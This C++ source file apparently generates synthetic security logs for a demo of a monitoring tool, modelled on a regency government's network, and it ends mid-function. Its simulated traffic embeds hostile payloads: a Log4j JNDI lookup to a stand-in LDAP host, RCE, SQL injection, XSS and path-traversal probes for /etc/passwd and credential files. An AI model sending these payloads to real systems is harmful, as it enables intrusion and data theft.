#include "ingest/demo_feed.h"

#include <fmt/format.h>

#include <algorithm>
#include <cmath>
#include <numbers>

#include "core/time.h"

namespace pantau {
namespace {

constexpr TimeNs kMs = 1'000'000;
constexpr TimeNs kSecond = kNsPerSecond;
// Kutai Kartanegara (East Kalimantan) keeps WITA, UTC+8; its devices log local time.
constexpr TimeNs kWitaOffset = 8 * 3600 * kSecond;
constexpr TimeNs kMaxCatchUp = 10 * kSecond;

constexpr const char* kMonths[] = {"Jan", "Feb", "Mar", "Apr", "May", "Jun",
                                   "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};

struct LocalTime {
  CivilDate date;
  int hour, minute, second;
  int64_t micros;
};

LocalTime Wita(TimeNs t) {
  const TimeNs local = t + kWitaOffset;
  int64_t days = local / kNsPerDay;
  TimeNs rest = local % kNsPerDay;
  if (rest < 0) {
    rest += kNsPerDay;
    --days;
  }
  const int64_t seconds = rest / kSecond;
  return {CivilFromDays(days), static_cast<int>(seconds / 3600),
          static_cast<int>(seconds / 60 % 60), static_cast<int>(seconds % 60),
          (rest % kSecond) / 1000};
}

// 2026-11-27T10:00:00.123456+08:00, as rsyslog's RFC 3339 templates write it.
std::string Rfc3339Wita(TimeNs t) {
  const LocalTime l = Wita(t);
  return fmt::format("{:04}-{:02}-{:02}T{:02}:{:02}:{:02}.{:06}+08:00", l.date.year, l.date.month,
                     l.date.day, l.hour, l.minute, l.second, l.micros);
}

// 27/Nov/2026:10:00:02 +0800, the access log's time.
std::string AccessLogTime(TimeNs t) {
  const LocalTime l = Wita(t);
  return fmt::format("{:02}/{}/{:04}:{:02}:{:02}:{:02} +0800", l.date.day,
                     kMonths[l.date.month - 1], l.date.year, l.hour, l.minute, l.second);
}

// Nov 27 10:00:02 (RFC 3164, the day padded with a space), as nginx's syslog writes it.
std::string BsdTime(TimeNs t) {
  const LocalTime l = Wita(t);
  return fmt::format("{} {:>2} {:02}:{:02}:{:02}", kMonths[l.date.month - 1], l.date.day, l.hour,
                     l.minute, l.second);
}

// The regency's sites; nginx and Apache send their access logs over syslog (local7 / local6).
struct Site {
  const char* host;
  const char* program;
  int pri;
  bool wordpress;
};
constexpr Site kSites[] = {
    {"kukarkab.go.id", "nginx", 190, false},
    {"diskominfo.kukarkab.go.id", "nginx", 190, true},
    {"bappeda.kukarkab.go.id", "apache2", 182, true},
    {"dukcapil.kukarkab.go.id", "nginx", 190, false},
    {"ppid.kukarkab.go.id", "apache2", 182, false},
    {"jdih.kukarkab.go.id", "nginx", 190, false},
    {"bkpsdm.kukarkab.go.id", "apache2", 182, true},
};
constexpr size_t kPortal = 0;

constexpr const char* kPages[] = {
    "/",
    "/",
    "/",
    "/berita",
    "/berita/rapat-koordinasi-penanganan-banjir-tenggarong",
    "/berita/pelantikan-pejabat-administrator-dan-pengawas",
    "/berita/festival-erau-adat-kutai",
    "/pengumuman/seleksi-pppk-tahap-ii",
    "/pengumuman/jadwal-pelayanan-akhir-tahun",
    "/layanan/kartu-keluarga",
    "/layanan/akta-kelahiran",
    "/layanan/pengaduan",
    "/profil/visi-misi",
    "/profil/struktur-organisasi",
    "/ppid/dokumen?kategori=informasi-berkala",
    "/ppid/dokumen?kategori=informasi-serta-merta&page=2",
    "/search?q=jadwal+pelayanan",
    "/search?q=lowongan+pppk",
    "/download.php?file=laporan-kinerja-instansi.pdf",
    "/assets/css/app.min.css",
    "/assets/js/app.min.js",
    "/assets/js/jquery-3.7.1.min.js",
    "/images/logo-kukar.png",
    "/images/berita/banjir-tenggarong.jpg",
    "/favicon.ico",
    "/robots.txt",
    "/sitemap.xml",
    "/api/antrian?tanggal=hari-ini",
};
constexpr const char* kBrowsers[] = {
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; SM-A145F) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 12; Redmi Note 11) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/123.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 14; CPH2591) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/124.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0",
};
constexpr const char* kGooglebot =
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
constexpr const char* kGooglebotPrefix = "66.249.66.";
struct Bot {
  const char* prefix;
  const char* agent;
};
constexpr Bot kBots[] = {
    {kGooglebotPrefix, kGooglebot},
    {"40.77.167.", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"},
    {"173.252.83.", "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"},
};
constexpr const char* kReferrers[] = {
    "-",
    "-",
    "https://www.google.com/",
    "https://kukarkab.go.id/",
    "https://www.facebook.com/",
    "android-app://com.google.android.gm/",
};
// Everyday visitors: Indonesian mobile and home broadband pools.
constexpr const char* kVisitorPrefixes[] = {"36.68.", "36.72.",   "114.125.", "114.4.",
                                            "182.1.", "140.213.", "180.252.", "110.136."};

// Attackers: documentation addresses only (RFC 5737).
constexpr const char* kAttackerPrefixes[] = {"198.51.100.", "192.0.2."};
// The regency's public addresses (also documentation addresses): NAT egress and the web VIP.
constexpr const char* kEgress = "203.0.113.2";
constexpr const char* kWebVip = "203.0.113.10";

struct Destination {
  const char* prefix;
  const char* country;
};
constexpr Destination kDestinations[] = {
    {"142.250.4.", "United States"},  {"172.217.194.", "United States"},
    {"157.240.13.", "Singapore"},     {"20.190.160.", "United States"},
    {"104.16.132.", "United States"}, {"13.107.42.", "United States"},
};
struct Service {
  const char* name;
  int port;
  int proto;
};
constexpr Service kOutboundServices[] = {
    {"HTTPS", 443, 6}, {"HTTPS", 443, 6}, {"HTTPS", 443, 6}, {"HTTP", 80, 6},
    {"DNS", 53, 17},   {"QUIC", 443, 17}, {"NTP", 123, 17},
};
constexpr Service kProbedServices[] = {
    {"TELNET", 23, 6},   {"SSH", 22, 6},        {"RDP", 3389, 6}, {"SMB", 445, 6},
    {"MS-SQL", 1433, 6}, {"tcp/8080", 8080, 6}, {"VNC", 5900, 6}, {"MYSQL", 3306, 6},
};

struct Workstation {
  const char* name;
  const char* ip;
};
constexpr Workstation kWorkstations[] = {
    {"PC-DISKOMINFO-03", "10.10.2.23"},  {"PC-BAPPEDA-07", "10.10.3.17"},
    {"PC-DUKCAPIL-12", "10.10.4.32"},    {"PC-BKPSDM-02", "10.10.5.12"},
    {"PC-SETDA-21", "10.10.6.41"},       {"LT-KOMINFO-05", "10.10.2.105"},
    {"PC-INSPEKTORAT-04", "10.10.7.14"}, {"PC-DISPORA-09", "10.10.8.29"},
};
constexpr const char* kStaff[] = {
    "budi.santoso",  "siti.rahma",      "agus.wijaya",   "dewi.lestari",
    "rina.marlina",  "andi.pratama",    "yusuf.hidayat", "rahmat.hakim",
    "wahyu.saputra", "fitri.handayani", "nur.aini",      "hendra.gunawan",
};
constexpr const char* kWindowsAdmins[] = {"adm.agus", "adm.budi", "Administrator"};
constexpr const char* kWindowsServers[] = {"DC01.kukarkab.local", "DC02.kukarkab.local",
                                           "FS01.kukarkab.local", "APP-SIMPEG.kukarkab.local"};

constexpr const char* kLinuxServers[] = {"srv-sipd",   "srv-mail", "srv-ppid",
                                         "srv-simpeg", "srv-db01", "srv-backup"};
// Those whose SSH the internet reaches.
constexpr const char* kExposedServers[] = {"srv-sipd", "srv-mail", "srv-ppid"};
constexpr const char* kKeyFingerprints[] = {"q3Fz7GkYbV0rQ2dJ8xW1nLpE5sT9uHcA4mKiO6yRzBw",
                                            "Zx9kP2mN7vB4cT1qW8eR5yU3iO6pA0sDfGhJkLz+Xcv"};
constexpr const char* kLinuxAdmins[] = {"budi", "agus", "hendra"};
constexpr const char* kAdminStations[] = {"10.10.1.15", "10.10.1.16", "10.10.2.105"};
constexpr const char* kSudoCommands[] = {
    "/usr/bin/systemctl restart nginx",
    "/usr/bin/systemctl restart php8.2-fpm",
    "/usr/bin/apt-get update",
    "/usr/bin/tail -n 200 /var/log/nginx/error.log",
    "/usr/bin/journalctl -u postgresql --since today",
    "/usr/sbin/ufw status",
    "/usr/bin/df -h",
};
// Names password guessers try.
constexpr const char* kGuessedUsers[] = {"admin",   "oracle", "test",    "ubuntu", "postgres",
                                         "user",    "guest",  "ftpuser", "git",    "pi",
                                         "support", "kukar",  "deploy",  "mysql",  "www"};

constexpr const char* kDevice = R"(devname="FGT-KUKAR-01" devid="FG200FT921900123")";

// FortiGate syslog: PRI (local7 and the level) then key=value, local time with its zone.
DemoLine Fortigate(TimeNs t, int pri, std::string_view dataset, const std::string& body) {
  const LocalTime l = Wita(t);
  return {t,
          fmt::format(R"(<{}>date={:04}-{:02}-{:02} time={:02}:{:02}:{:02} {} eventtime={} )"
                      R"(tz="+0800" {})",
                      pri, l.date.year, l.date.month, l.date.day, l.hour, l.minute, l.second,
                      kDevice, t, body),
          dataset};
}

// Linux auth as rsyslog forwards it (RSYSLOG_ForwardFormat): PRI, RFC 3339 time, host, tag.
DemoLine Auth(TimeNs t, int pri, std::string_view host, std::string_view tag,
              std::string_view message) {
  return {t, fmt::format("<{}>{} {} {}: {}", pri, Rfc3339Wita(t), host, tag, message),
          "linux.auth"};
}
constexpr int kAuthInfo = 38;        // auth.info: sshd
constexpr int kAuthprivInfo = 86;    // authpriv.info: PAM, useradd
constexpr int kAuthprivNotice = 85;  // authpriv.notice: sudo

}  // namespace

DemoLogGenerator::DemoLogGenerator(uint64_t seed, TimeNs start)
    : rng_(seed), last_(start), next_attack_(start + 30 * kSecond) {
  ScheduleOpening(start);
}

uint64_t DemoLogGenerator::Below(uint64_t n) { return n == 0 ? 0 : rng_() % n; }

int DemoLogGenerator::Between(int lo, int hi) {
  return lo + static_cast<int>(Below(static_cast<uint64_t>(hi - lo) + 1));
}

bool DemoLogGenerator::Chance(double p) {
  return static_cast<double>(rng_() >> 11) * 0x1.0p-53 < p;
}

TimeNs DemoLogGenerator::Seconds(double lo, double hi) {
  const double u = static_cast<double>(rng_() >> 11) * 0x1.0p-53;
  return static_cast<TimeNs>((lo + (hi - lo) * u) * static_cast<double>(kSecond));
}

int DemoLogGenerator::EphemeralPort() { return Between(32768, 60999); }
int DemoLogGenerator::Pid() { return Between(1200, 64000); }

std::string DemoLogGenerator::Attacker() {
  return fmt::format("{}{}", Pick(kAttackerPrefixes), Between(2, 254));
}

std::string DemoLogGenerator::Visitor() {
  return fmt::format("{}{}.{}", Pick(kVisitorPrefixes), Between(0, 255), Between(1, 254));
}

size_t DemoLogGenerator::RandomSite() {
  // The portal has as many visitors as all the others together.
  return Chance(0.5) ? kPortal : Below(std::size(kSites));
}

double DemoLogGenerator::RateAt(TimeNs t) {
  const LocalTime l = Wita(t);
  const double hour = l.hour + l.minute / 60.0;
  // Quietest at 03:00, busiest at 15:00.
  const double busy = (1 - std::cos(2 * std::numbers::pi * (hour - 3) / 24)) / 2;
  return 20 + 30 * busy;
}

bool DemoLogGenerator::Later(const Scheduled& a, const Scheduled& b) {
  return a.due != b.due ? a.due > b.due : a.order > b.order;
}

void DemoLogGenerator::Schedule(TimeNs due, Write write) {
  scheduled_.push_back({due, order_++, std::move(write)});
  std::push_heap(scheduled_.begin(), scheduled_.end(), Later);
}

std::vector<DemoLine> DemoLogGenerator::Step(TimeNs now) {
  std::vector<DemoLine> out;
  if (now <= last_) return out;
  const TimeNs from = std::max(last_, now - kMaxCatchUp);
  last_ = now;
  if (next_attack_ < from) next_attack_ = from;  // attacks missed in a pause are skipped
  while (next_attack_ <= now) {
    ScheduleRandomAttack(next_attack_);
    next_attack_ += Seconds(20, 70);
  }
  const double expected =
      RateAt(now) * static_cast<double>(now - from) / static_cast<double>(kSecond) + carry_;
  const auto count = static_cast<size_t>(expected);
  carry_ = expected - static_cast<double>(count);
  std::vector<TimeNs> times(count);
  for (TimeNs& t : times) t = from + 1 + static_cast<TimeNs>(Below(now - from));
  std::sort(times.begin(), times.end());
  for (TimeNs t : times) out.push_back(Everyday(t));
  while (!scheduled_.empty() && scheduled_.front().due <= now) {
    std::pop_heap(scheduled_.begin(), scheduled_.end(), Later);
    Scheduled s = std::move(scheduled_.back());
    scheduled_.pop_back();
    out.push_back(s.write(s.due));
  }
  std::stable_sort(out.begin(), out.end(),
                   [](const DemoLine& a, const DemoLine& b) { return a.time < b.time; });
  return out;
}

// The first 20 seconds: one attack of every kind, so that alerts appear within a minute.
void DemoLogGenerator::ScheduleOpening(TimeNs start) {
  WebSqlInjection(start + 1 * kSecond);
  SshBruteForce(start + 2 * kSecond, /*quick=*/true, /*succeeds=*/true);
  FortigateIpsAttack(start + 3 * kSecond);
  WebGamblingSpam(start + 5 * kSecond);
  WebXss(start + 7 * kSecond);
  WebPathTraversal(start + 9 * kSecond);
  FortigateVirus(start + 11 * kSecond);
  FortigateWebFilterGambling(start + 12 * kSecond);
  WebScanner(start + 14 * kSecond);
  WindowsPasswordSpray(start + 16 * kSecond);
}

void DemoLogGenerator::ScheduleRandomAttack(TimeNs at) {
  const uint64_t roll = Below(100);
  if (roll < 20) {
    SshBruteForce(at, /*quick=*/false, Chance(0.25));
  } else if (roll < 32) {
    WebSqlInjection(at);
  } else if (roll < 41) {
    WebXss(at);
  } else if (roll < 50) {
    WebPathTraversal(at);
  } else if (roll < 60) {
    WebScanner(at);
  } else if (roll < 70) {
    WebGamblingSpam(at);
  } else if (roll < 83) {
    FortigateIpsAttack(at);
  } else if (roll < 86) {
    FortigateVirus(at);
  } else if (roll < 91) {
    FortigateWebFilterGambling(at);
  } else if (roll < 93) {
    WebShell(at);
  } else if (roll < 95) {
    WebRemoteCodeExecution(at);
  } else if (roll < 97) {
    FortigateAdminLogin(at);
  } else {
    WindowsPasswordSpray(at);
  }
}

DemoLine DemoLogGenerator::Everyday(TimeNs t) {
  const uint64_t roll = Below(100);
  if (roll < 25) return FortigateOutbound(t);
  if (roll < 36) return FortigateInbound(t);
  if (roll < 42) return FortigateDenied(t, Attacker());
  if (roll < 70) return WebVisit(t);
  if (roll < 82) return LinuxEveryday(t);
  return WindowsEveryday(t);
}

// --- FortiGate ---

DemoLine DemoLogGenerator::FortigateOutbound(TimeNs t) {
  const Workstation& from = Pick(kWorkstations);
  const Destination& to = Pick(kDestinations);
  const Service& service = Pick(kOutboundServices);
  const bool dns = service.port == 53;
  const std::string dst =
      dns ? (Chance(0.5) ? "8.8.8.8" : "1.1.1.1") : fmt::format("{}{}", to.prefix, Between(1, 254));
  const int sent = Between(200, 40'000);
  const char* action = Chance(0.85) ? "close" : (Chance(0.5) ? "timeout" : "client-rst");
  return Fortigate(
      t, 189, "fortigate.traffic",
      fmt::format(R"(logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" )"
                  R"(srcip={} srcport={} srcintf="port2" srcintfrole="lan" dstip={} dstport={} )"
                  R"(dstintf="port1" dstintfrole="wan" srccountry="Reserved" dstcountry="{}" )"
                  R"(sessionid={} proto={} action="{}" policyid=3 policytype="policy" )"
                  R"(policyname="LAN-to-Internet" service="{}" trandisp="snat" transip={} )"
                  R"(transport={} duration={} sentbyte={} rcvdbyte={} sentpkt={} rcvdpkt={} )"
                  R"(appcat="unscanned")",
                  from.ip, EphemeralPort(), dst, service.port, dns ? "United States" : to.country,
                  ++session_id_, service.proto, action, service.name, kEgress, EphemeralPort(),
                  Between(1, 300), sent, sent * Between(1, 40), Between(3, 60), Between(3, 400)));
}

DemoLine DemoLogGenerator::FortigateInbound(TimeNs t) {
  const int sent = Between(400, 3'000);
  return Fortigate(
      t, 189, "fortigate.traffic",
      fmt::format(R"(logid="0000000013" type="traffic" subtype="forward" level="notice" vd="root" )"
                  R"(srcip={} srcport={} srcintf="port1" srcintfrole="wan" dstip={} dstport=443 )"
                  R"(dstintf="dmz" dstintfrole="dmz" srccountry="Indonesia" )"
                  R"(dstcountry="Reserved" sessionid={} proto=6 action="close" policyid=7 )"
                  R"(policytype="policy" policyname="Internet-to-DMZ-Web" service="HTTPS" )"
                  R"(trandisp="dnat" tranip=172.16.10.{} tranport=443 duration={} sentbyte={} )"
                  R"(rcvdbyte={} sentpkt={} rcvdpkt={} appcat="unscanned")",
                  Visitor(), EphemeralPort(), kWebVip, ++session_id_, Between(11, 17),
                  Between(1, 120), sent, sent * Between(5, 80), Between(5, 40), Between(5, 200)));
}

DemoLine DemoLogGenerator::FortigateDenied(TimeNs t, const std::string& from) {
  const Service& service = Pick(kProbedServices);
  return Fortigate(
      t, 188, "fortigate.traffic",
      fmt::format(R"(logid="0000000013" type="traffic" subtype="forward" level="warning" )"
                  R"(vd="root" srcip={} srcport={} srcintf="port1" srcintfrole="wan" )"
                  R"(dstip=203.0.113.{} dstport={} dstintf="dmz" dstintfrole="dmz" )"
                  R"(srccountry="Reserved" dstcountry="Reserved" sessionid={} proto={} )"
                  R"(action="deny" policyid=0 policytype="policy" service="{}" trandisp="noop" )"
                  R"(duration=0 sentbyte=0 rcvdbyte=0 sentpkt=0 appcat="unscanned" crscore=30 )"
                  R"(craction=131072 crlevel="high")",
                  from, EphemeralPort(), Between(2, 30), service.port, ++session_id_, service.proto,
                  service.name));
}

void DemoLogGenerator::FortigateIpsAttack(TimeNs at) {
  struct Signature {
    const char* name;
    int id;
    const char* severity;
    const char* url;
  };
  static constexpr Signature kSignatures[] = {
      {"Apache.Log4j.Error.Log.Remote.Code.Execution", 51006, "critical",
       "/?x=${jndi:ldap://198.51.100.66:1389/a}"},
      {"PHP.CGI.Argument.Injection", 31825, "critical",
       "/cgi-bin/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input"},
      {"ThinkPHP.Controller.Parameter.Remote.Code.Execution", 47439, "critical",
       "/index.php?s=/index/think\\app/invokefunction&function=call_user_func_array"},
      {"Laravel.Ignition.Remote.Code.Execution", 50134, "critical", "/_ignition/execute-solution"},
      {"WordPress.File.Manager.Plugin.Remote.Code.Execution", 49855, "high",
       "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php"},
      {"Joomla.Core.Improper.Access.Check", 52931, "medium",
       "/api/index.php/v1/config/application"},
  };
  const std::string from = Attacker();
  const size_t site = RandomSite();
  const int hits = Between(2, 4);
  for (int i = 0; i < hits; ++i) {
    const Signature& s = Pick(kSignatures);
    const int sport = EphemeralPort();
    Schedule(at + i * Seconds(0.5, 3), [this, from, site, s, sport](TimeNs t) {
      return Fortigate(
          t, 185, "fortigate.utm",
          fmt::format(R"(logid="0419016384" type="utm" subtype="ips" eventtype="signature" )"
                      R"(level="alert" vd="root" severity="{}" srcip={} srccountry="Reserved" )"
                      R"(dstip={} dstcountry="Reserved" srcintf="port1" srcintfrole="wan" )"
                      R"(dstintf="dmz" dstintfrole="dmz" sessionid={} action="dropped" proto=6 )"
                      R"(service="HTTPS" policyid=7 attack="{}" srcport={} dstport=443 )"
                      R"(hostname="{}" url="{}" direction="outgoing" attackid={} )"
                      R"(profile="protect_http_server" )"
                      R"(ref="http://www.fortinet.com/ids/VID{}" incidentserialno={} )"
                      R"(msg="web_server: {}," crscore=50 craction=4096 crlevel="critical")",
                      s.severity, from, kWebVip, ++session_id_, s.name, sport, kSites[site].host,
                      s.url, s.id, s.id, Between(100'000'000, 999'999'999), s.name));
    });
  }
  // The same address knocks on other ports too.
  const int probes = Between(3, 6);
  for (int i = 0; i < probes; ++i) {
    Schedule(at + Seconds(0, 8), [this, from](TimeNs t) { return FortigateDenied(t, from); });
  }
}

void DemoLogGenerator::FortigateVirus(TimeNs at) {
  struct Malware {
    const char* name;
    int id;
    const char* file;
    const char* url;
  };
  static constexpr Malware kMalware[] = {
      {"W32/Agent.AAZ!tr", 8143256, "invoice_nov.exe", "http://files.example.net/invoice_nov.exe"},
      {"JS/Agent.PXO!tr", 10112543, "surat-undangan.js",
       "http://cdn.example.org/surat-undangan.js"},
      {"W32/Sality.AA", 2104345, "setup_kms.exe", "http://download.example.com/setup_kms.exe"},
      {"EICAR_TEST_FILE", 2172, "eicar.com", "http://www.eicar.org/download/eicar.com"},
      {"MSOffice/Agent.EVD!tr.dldr", 10098811, "rekap_anggaran.xlsm",
       "http://share.example.net/rekap_anggaran.xlsm"},
  };
  const Malware& m = Pick(kMalware);
  const Workstation& w = Pick(kWorkstations);
  const std::string user = Pick(kStaff);
  const int sport = EphemeralPort();
  Schedule(at, [this, m, w, user, sport](TimeNs t) {
    return Fortigate(
        t, 188, "fortigate.utm",
        fmt::format(R"(logid="0211008192" type="utm" subtype="virus" eventtype="infected" )"
                    R"(level="warning" vd="root" policyid=3 msg="File is infected." )"
                    R"(action="blocked" service="HTTP" sessionid={} srcip={} dstip=192.0.2.80 )"
                    R"(srcport={} dstport=80 srcintf="port2" srcintfrole="lan" dstintf="port1" )"
                    R"(dstintfrole="wan" proto=6 direction="incoming" filename="{}" )"
                    R"(quarskip="File-was-not-quarantined." virus="{}" dtype="Virus" )"
                    R"(ref="http://www.fortinet.com/ve?vn={}" virusid={} url="{}" )"
                    R"(profile="default" user="{}" agent="Chrome/124.0.0.0" )"
                    R"(analyticssubmit="false" crscore=50 craction=2 crlevel="critical")",
                    ++session_id_, w.ip, sport, m.file, m.name, m.name, m.id, m.url, user));
  });
}

void DemoLogGenerator::FortigateWebFilterGambling(TimeNs at) {
  static constexpr const char* kGamblingSites[] = {"slot88-gacor.example", "togel-online.example",
                                                   "maxwin777.example", "judi-bola.example"};
  const Workstation& w = Pick(kWorkstations);
  const std::string user = Pick(kStaff);
  const int hits = Between(2, 4);
  const std::string host = Pick(kGamblingSites);
  for (int i = 0; i < hits; ++i) {
    Schedule(at + i * Seconds(0.2, 2), [this, w, user, host](TimeNs t) {
      return Fortigate(
          t, 188, "fortigate.utm",
          fmt::format(R"(logid="0316013056" type="utm" subtype="webfilter" eventtype="ftgd_blk" )"
                      R"(level="warning" vd="root" policyid=3 sessionid={} user="{}" srcip={} )"
                      R"(srcport={} srcintf="port2" srcintfrole="lan" dstip=192.0.2.{} )"
                      R"(dstport=443 dstintf="port1" dstintfrole="wan" proto=6 service="HTTPS" )"
                      R"(hostname="{}" profile="default" action="blocked" reqtype="direct" )"
                      R"(url="https://{}/" sentbyte=517 rcvdbyte=0 direction="outgoing" )"
                      R"(msg="URL belongs to a denied category in policy" method="domain" )"
                      R"(cat=11 catdesc="Gambling")",
                      ++session_id_, user, w.ip, EphemeralPort(), Between(100, 200), host, host));
    });
  }
}

void DemoLogGenerator::FortigateAdminLogin(TimeNs at) {
  const std::string from = Pick(kAdminStations);
  const bool failed_first = Chance(0.3);
  auto login = [this, from](bool ok) {
    return [this, from, ok](TimeNs t) {
      return Fortigate(
          t, ok ? 190 : 185, "fortigate.event",
          fmt::format(R"x(logid="{}" type="event" subtype="system" level="{}" vd="root" )x"
                      R"x(logdesc="Admin login {}" sn="{}" user="admin" ui="https({})" )x"
                      R"x(method="https" srcip={} dstip=10.10.0.1 action="login" status="{}" )x"
                      R"x(reason="{}" profile="super_admin" )x"
                      R"x(msg="Administrator admin {} from https({})")x",
                      ok ? "0100032001" : "0100032002", ok ? "information" : "alert",
                      ok ? "successful" : "failed", Between(1'700'000'000, 1'799'999'999), from,
                      from, ok ? "success" : "failed", ok ? "none" : "passwd_invalid",
                      ok ? "logged in successfully" : "login failed", from));
    };
  };
  if (failed_first) Schedule(at, login(false));
  Schedule(at + Seconds(4, 12), login(true));
}

// --- Web ---

DemoLine DemoLogGenerator::Request(TimeNs t, size_t site, const std::string& client,
                                   std::string_view method, const std::string& uri, int status,
                                   std::string_view referrer, std::string_view agent) {
  const Site& s = kSites[site];
  const int bytes = status == 304 ? 0 : status >= 400 ? Between(150, 600) : Between(800, 90'000);
  return {t,
          fmt::format(R"(<{}>{} {} {}: {} - - [{}] "{} {} HTTP/1.1" {} {} "{}" "{}")", s.pri,
                      BsdTime(t), s.host, s.program, client, AccessLogTime(t), method, uri, status,
                      bytes, referrer, agent),
          "web.access"};
}

void DemoLogGenerator::ScheduleRequest(TimeNs at, size_t site, const std::string& client,
                                       std::string_view method, const std::string& uri, int status,
                                       std::string_view referrer, std::string_view agent) {
  Schedule(at, [this, site, client, uri, status, method = std::string(method),
                referrer = std::string(referrer), agent = std::string(agent)](TimeNs t) {
    return Request(t, site, client, method, uri, status, referrer, agent);
  });
}

DemoLine DemoLogGenerator::WebVisit(TimeNs t) {
  const size_t site = RandomSite();
  const Bot* bot = Chance(0.12) ? &Pick(kBots) : nullptr;
  const std::string client =
      bot != nullptr ? fmt::format("{}{}", bot->prefix, Between(1, 254)) : Visitor();
  const char* agent = bot != nullptr ? bot->agent : Pick(kBrowsers);
  std::string uri = Pick(kPages);
  std::string_view method = "GET";
  if (kSites[site].wordpress && Chance(0.15)) {
    uri = Chance(0.8) ? "/wp-admin/admin-ajax.php" : "/wp-json/wp/v2/posts?per_page=10";
    method = uri.starts_with("/wp-admin") ? "POST" : "GET";
  } else if (uri == "/layanan/pengaduan" && Chance(0.3)) {
    method = "POST";
  }
  int status = 200;
  const uint64_t roll = Below(100);
  if (roll < 10) {
    status = 304;
  } else if (roll < 14) {
    status = 404;
    uri = Chance(0.5) ? "/apple-touch-icon.png" : "/berita/halaman-yang-sudah-dihapus";
  } else if (roll < 16) {
    status = 301;
  } else if (roll < 17) {
    status = 502;
  }
  std::string referrer = Pick(kReferrers);
  if (bot != nullptr) {
    referrer = "-";
  } else if (uri.starts_with("/assets") || uri.starts_with("/images")) {
    referrer = fmt::format("https://{}/", kSites[site].host);
  }
  return Request(t, site, client, method, uri, status, referrer, agent);
}

void DemoLogGenerator::WebSqlInjection(TimeNs at) {
  static constexpr const char* kProbes[] = {
      "/berita.php?id=12%27%20or%201=1--%20-",
      "/berita.php?id=12%20AND%20SLEEP(5)",
      "/berita.php?id=-1%20UNION%20ALL%20SELECT%20NULL,CONCAT(0x716b787a71,0x4b6a,0x7176627a71),"
      "NULL--%20-",
      "/index.php?option=com_content&id=1%27%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,@@version))--",
      "/search?q=1%27+or+1%3d1--",
      "/layanan.php?kategori=2+union+select+1,2,group_concat(table_name),4+from+information_schema."
      "tables--",
      "/download.php?file=1%27+AND+BENCHMARK(5000000,MD5(1))--",
      "/pengumuman/detail.php?id=7%27%20WAITFOR%20DELAY%20%270:0:5%27--",
  };
  const std::string from = Attacker();
  const size_t site = RandomSite();
  const bool sqlmap = Chance(0.6);
  const char* agent = sqlmap ? "sqlmap/1.7.2#stable (https://sqlmap.org)" : Pick(kBrowsers);
  const int count = sqlmap ? Between(8, 14) : Between(3, 6);
  TimeNs t = at;
  for (int i = 0; i < count; ++i) {
    const int status = Chance(0.7) ? 200 : 500;
    ScheduleRequest(t, site, from, "GET", Pick(kProbes), status, "-", agent);
    t += sqlmap ? Seconds(0.2, 1) : Seconds(2, 6);
  }
}

void DemoLogGenerator::WebXss(TimeNs at) {
  static constexpr const char* kProbes[] = {
      "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
      "/berita?cari=%22%3E%3Csvg/onload=alert(1)%3E",
      "/index.php?page=javascript:alert(1)",
      "/pengumuman?id=1%22%20onerror=%22alert(1)",
      "/search?q=%3Cimg%20src=x%20onerror=alert(%27XSS%27)%3E",
  };
  const std::string from = Attacker();
  const size_t site = RandomSite();
  const char* agent = Pick(kBrowsers);
  const int count = Between(2, 5);
  for (int i = 0; i < count; ++i) {
    ScheduleRequest(at + i * Seconds(1, 4), site, from, "GET", Pick(kProbes),
                    Chance(0.5) ? 200 : 404, "-", agent);
  }
}

void DemoLogGenerator::WebPathTraversal(TimeNs at) {
  static constexpr const char* kProbes[] = {
      "/download.php?file=../../../../etc/passwd",
      "/index.php?page=..%2f..%2f..%2f..%2fetc%2fpasswd",
      "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
      "/lampiran?file=....//....//....//proc/self/environ",
      "/download.php?file=..%5c..%5c..%5cwindows%5cwin.ini",
  };
  const std::string from = Attacker();
  const size_t site = RandomSite();
  const char* agent = Chance(0.5) ? "curl/7.88.1" : Pick(kBrowsers);
  const int count = Between(2, 5);
  for (int i = 0; i < count; ++i) {
    static constexpr int kStatuses[] = {400, 403, 404, 200};
    ScheduleRequest(at + i * Seconds(0.5, 3), site, from, "GET", Pick(kProbes), Pick(kStatuses),
                    "-", agent);
  }
}

void DemoLogGenerator::WebScanner(TimeNs at) {
  static constexpr const char* kAgents[] = {
      "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000562)",
      "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
      "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
      "gobuster/3.6",
  };
  static constexpr const char* kPaths[] = {
      "/.env",
      "/.git/config",
      "/wp-config.php.bak",
      "/phpinfo.php",
      "/phpmyadmin/",
      "/server-status",
      "/backup.zip",
      "/config.php~",
      "/admin/",
      "/wp-json/wp/v2/users",
      "/.aws/credentials",
      "/xmlrpc.php",
      "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
      "/.DS_Store",
  };
  const std::string from = Attacker();
  const size_t site = RandomSite();
  const char* agent = Pick(kAgents);
  const int count = Between(8, 20);
  TimeNs t = at;
  for (int i = 0; i < count; ++i) {
    const std::string path = Pick(kPaths);
